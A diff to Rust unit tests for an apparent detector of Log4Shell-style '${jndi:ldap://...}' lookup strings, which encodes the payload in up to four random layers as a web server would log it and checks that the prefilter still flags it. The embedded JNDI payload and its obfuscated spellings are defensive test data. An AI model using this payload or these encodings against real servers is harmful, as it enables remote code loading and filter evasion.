@@ -55,7 +55,10 @@ mod tests {
     use testkit::Rng;
 
     use super::*;
-    use crate::decode::{rounds, tests::spell};
+    use crate::decode::{
+        rounds,
+        tests::{logged, spell},
+    };
 
     #[test]
     fn spellings_that_word_lists_miss() {
@@ -89,7 +92,7 @@ mod tests {
             "/index.html",
             "q=caf%C3%A9%20au+lait&page=2&lang=fr",
             "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
-            "price=5$&d=1",
+            "price=5$,00&d=1",
             "a%2Fb&amount=3&b=%7B%7D",
             "caf\\xc3\\xa9",
         ] {
@@ -98,11 +101,13 @@ mod tests {
     }
 
     /// Goal: no effective payload passes the prefilter by. Method: payloads whose characters are
-    /// spelled at random, layer over layer, up to four; each must still decode to `${`, and each
-    /// must be stopped.
+    /// spelled at random, layer over layer, up to four, each as a web server would log it. That
+    /// the spellings are real ones is checked by decoding them; a few are not, where a numeric
+    /// reference ends too early.
     #[test]
     fn no_nested_spelling_passes_by() {
         let mut rng = Rng::new(0x0024_007b);
+        let mut real = 0;
         for number in 0..20_000 {
             let mut text = b"${jndi:ldap://192.0.2.1/a}".to_vec();
             let layers = 1 + rng.below(4);
@@ -110,11 +115,15 @@ mod tests {
             for _ in 0..layers {
                 text = spell(&text, &mut rng, percent);
             }
-            let text = String::from_utf8(text).unwrap();
+            let text = logged(&String::from_utf8(text).unwrap(), &mut rng);
             assert!(may_hold_lookup(&text), "{number}: {text}");
-            let found = rounds(&text).any(|bytes| bytes.windows(2).any(|pair| pair == b"${"));
-            assert!(found, "{number}: the spelling itself is wrong: {text}");
+            real += usize::from(rounds(&text).any(|bytes| holds_opening(&bytes)));
         }
+        assert!(real > 19_500, "{real}");
+    }
+
+    fn holds_opening(bytes: &[u8]) -> bool {
+        bytes.windows(2).any(|pair| pair == b"${")
     }
 
     /// The same from the other side: what the prefilter lets pass never decodes to `${`.
@@ -130,8 +139,7 @@ mod tests {
             let text: String = (0..2 + rng.below(10)).map(|_| *rng.pick(&PARTS)).collect();
             if !may_hold_lookup(&text) {
                 passed += 1;
-                let found = rounds(&text).any(|bytes| bytes.windows(2).any(|pair| pair == b"${"));
-                assert!(!found, "{text}");
+                assert!(!rounds(&text).any(|bytes| holds_opening(&bytes)), "{text}");
             }
         }
         assert!(passed > 10_000, "{passed}");
